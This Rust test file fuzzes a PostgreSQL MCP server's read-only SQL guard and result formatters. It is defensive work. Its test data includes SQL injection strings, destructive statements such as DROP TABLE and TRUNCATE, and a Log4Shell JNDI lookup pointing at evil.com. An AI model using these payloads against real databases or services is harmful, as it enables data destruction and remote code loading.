//! Randomized tests for the read-only guard and the output formatters.
//!
//! These tests generate random, malicious, and edge-case inputs and check that
//! classification never panics and never admits a write.

use pg_mcp_server::models::{QueryResult, QueryVerdict, Truncation};
use pg_mcp_server::tools::format::{OutputFormat, format_result};
use pg_mcp_server::tools::sql_validator::classify;
use rand::Rng;
use rand::distributions::Alphanumeric;
use rand::seq::SliceRandom;
use serde_json::{Value as JsonValue, json};

const WRITES: &[&str] = &[
    "INSERT INTO users VALUES (1)",
    "UPDATE users SET a = 1",
    "DELETE FROM users",
    "DROP TABLE users",
    "TRUNCATE users",
    "ALTER TABLE users ADD COLUMN b INT",
    "CREATE TABLE t (id INT)",
    "GRANT ALL ON users TO public",
    "COPY users FROM '/tmp/x'",
    "REVOKE ALL ON users FROM public",
];

const READS: &[&str] = &[
    "SELECT 1",
    "SELECT * FROM users",
    "SELECT count(*) FROM orders WHERE total > 10",
    "WITH x AS (SELECT 1 AS a) SELECT a FROM x",
    "EXPLAIN SELECT * FROM users",
    "VALUES (1), (2)",
];

fn random_string(len: usize) -> String {
    rand::thread_rng()
        .sample_iter(&Alphanumeric)
        .take(len)
        .map(char::from)
        .collect()
}

/// Random printable text, including quote and separator characters.
fn random_noise(len: usize) -> String {
    const ALPHABET: &[u8] = b"abcXYZ019 ;'\"$-/*()\n\t,.=";
    let mut rng = rand::thread_rng();
    (0..len)
        .map(|_| ALPHABET[rng.gen_range(0..ALPHABET.len())] as char)
        .collect()
}

fn random_case(s: &str) -> String {
    let mut rng = rand::thread_rng();
    s.chars()
        .map(|c| {
            if rng.gen_bool(0.5) {
                c.to_ascii_uppercase()
            } else {
                c.to_ascii_lowercase()
            }
        })
        .collect()
}

fn edge_case_strings() -> Vec<String> {
    vec![
        String::new(),
        " ".to_string(),
        "\n\r\t".to_string(),
        "\0".to_string(),
        "🚀".repeat(100),
        "'OR 1=1--".to_string(),
        "'; DROP TABLE users--".to_string(),
        "1' UNION SELECT NULL, NULL--".to_string(),
        "${jndi:ldap://evil.com/a}".to_string(),
        "{{7*7}}".to_string(),
        "a".repeat(100_000),
        "(".repeat(500),
        "SELECT ".repeat(1000),
        random_string(1000),
        "\u{0000}\u{FFFF}".to_string(),
    ]
}

#[test]
fn fuzz_edge_cases_never_panic() {
    for sql in edge_case_strings() {
        let _ = classify(&sql);
    }
}

#[test]
fn fuzz_random_noise_never_panics() {
    for _ in 0..500 {
        let len = rand::thread_rng().gen_range(0..200);
        let _ = classify(&random_noise(len));
    }
}

#[test]
fn fuzz_write_statements_always_rejected() {
    for _ in 0..200 {
        let write = WRITES.choose(&mut rand::thread_rng()).unwrap();
        let sql = random_case(write);
        assert!(
            matches!(classify(&sql), QueryVerdict::RejectedNotReadOnly { .. }),
            "{} should be rejected",
            sql
        );
    }
}

#[test]
fn fuzz_stacked_statements_always_rejected() {
    let mut rng = rand::thread_rng();
    for _ in 0..200 {
        let count = rng.gen_range(2..6);
        let statements: Vec<&str> = (0..count)
            .map(|_| {
                if rng.gen_bool(0.5) {
                    *READS.choose(&mut rng).unwrap()
                } else {
                    *WRITES.choose(&mut rng).unwrap()
                }
            })
            .collect();
        let sql = statements.join("; ");
        assert_eq!(
            classify(&sql),
            QueryVerdict::RejectedMultiStatement { count },
            "{}",
            sql
        );
    }
}

#[test]
fn fuzz_semicolons_in_literals_accepted() {
    for _ in 0..200 {
        let len = rand::thread_rng().gen_range(0..40);
        // Escape quotes so the literal stays one token
        let body = random_noise(len).replace('\'', "''");
        let sql = format!("SELECT '{}' AS payload", body);
        assert!(classify(&sql).is_accepted(), "{}", sql);
    }
}

#[test]
fn fuzz_reads_accepted_in_any_case() {
    for _ in 0..200 {
        let read = READS.choose(&mut rand::thread_rng()).unwrap();
        assert!(classify(&random_case(read)).is_accepted(), "{}", read);
    }
}

#[test]
fn fuzz_formatters_never_panic() {
    let mut rng = rand::thread_rng();
    for _ in 0..100 {
        let width = rng.gen_range(1..6);
        let columns: Vec<String> = (0..width).map(|_| random_noise(rng.gen_range(0..10))).collect();
        let rows: Vec<Vec<JsonValue>> = (0..rng.gen_range(0..20))
            .map(|_| {
                (0..width)
                    .map(|_| match rng.gen_range(0..4) {
                        0 => JsonValue::Null,
                        1 => json!(rng.r#gen::<i64>()),
                        2 => json!("名前🚀"),
                        _ => json!(random_noise(rng.gen_range(0..30))),
                    })
                    .collect()
            })
            .collect();
        let truncation = rng.gen_bool(0.3).then_some(Truncation::RowLimit(rows.len()));
        let result = QueryResult {
            columns,
            truncated: truncation.is_some(),
            truncation,
            rows,
            execution_time_ms: rng.gen_range(0..10_000),
        };

        for format in [OutputFormat::Text, OutputFormat::Table, OutputFormat::Markdown] {
            let text = format_result(&result, format);
            assert!(!text.is_empty());
            if result.truncated {
                assert!(text.contains("Result truncated"));
            }
        }
    }
}
